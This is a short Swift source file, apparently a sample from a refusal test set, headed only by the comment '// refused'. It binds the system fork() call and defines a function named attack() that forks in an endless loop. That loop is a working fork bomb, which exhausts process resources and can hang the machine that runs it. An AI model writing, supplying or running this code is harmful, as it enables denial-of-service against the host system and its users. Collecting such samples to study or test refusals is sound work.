// refused
import Foundation

@_silgen_name("fork") func fork() -> Int32
func attack() { while fork() >= 0 {} }
